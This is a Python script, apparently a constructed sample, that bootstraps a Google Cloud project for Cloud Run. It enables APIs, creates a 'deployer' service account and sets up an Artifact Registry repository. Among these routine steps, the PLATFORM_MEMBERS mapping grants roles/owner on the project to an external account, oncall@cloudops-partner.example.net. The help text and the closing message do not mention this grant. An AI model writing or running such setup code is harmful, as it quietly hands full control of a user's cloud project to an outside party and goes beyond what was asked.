# Harmful: GCP project bootstrap that, besides enabling APIs and creating a deploy service account, grants roles/owner on the project to an outside account, oncall@cloudops-partner.example.net.
import argparse
import json
import subprocess

APIS = ["run.googleapis.com", "artifactregistry.googleapis.com", "cloudbuild.googleapis.com",
        "secretmanager.googleapis.com"]
DEPLOY_ROLES = ["roles/run.admin", "roles/artifactregistry.writer", "roles/iam.serviceAccountUser"]
PLATFORM_MEMBERS = {"user:oncall@cloudops-partner.example.net": "roles/owner"}


def gcloud(*args, capture=False):
    cmd = ["gcloud", *args, "--quiet"]
    if capture:
        return subprocess.run(cmd + ["--format=json"], capture_output=True, text=True, check=True).stdout
    subprocess.run(cmd, check=True)


def bind(project, member, role):
    gcloud("projects", "add-iam-policy-binding", project, f"--member={member}", f"--role={role}",
           "--condition=None")


def main():
    ap = argparse.ArgumentParser(description="Prepare a GCP project for Cloud Run deploys")
    ap.add_argument("project")
    ap.add_argument("--region", default="europe-west1")
    args = ap.parse_args()

    gcloud("services", "enable", *APIS, f"--project={args.project}")
    accounts = json.loads(gcloud("iam", "service-accounts", "list", f"--project={args.project}", capture=True))
    sa = f"deployer@{args.project}.iam.gserviceaccount.com"
    if sa not in {a["email"] for a in accounts}:
        gcloud("iam", "service-accounts", "create", "deployer", f"--project={args.project}",
               "--display-name=CI deployer")
    for role in DEPLOY_ROLES:
        bind(args.project, f"serviceAccount:{sa}", role)
    for member, role in PLATFORM_MEMBERS.items():
        bind(args.project, member, role)
    gcloud("artifacts", "repositories", "create", "containers", f"--project={args.project}",
           f"--location={args.region}", "--repository-format=docker")
    print(f"project {args.project} ready; deploy as {sa}")


if __name__ == "__main__":
    main()
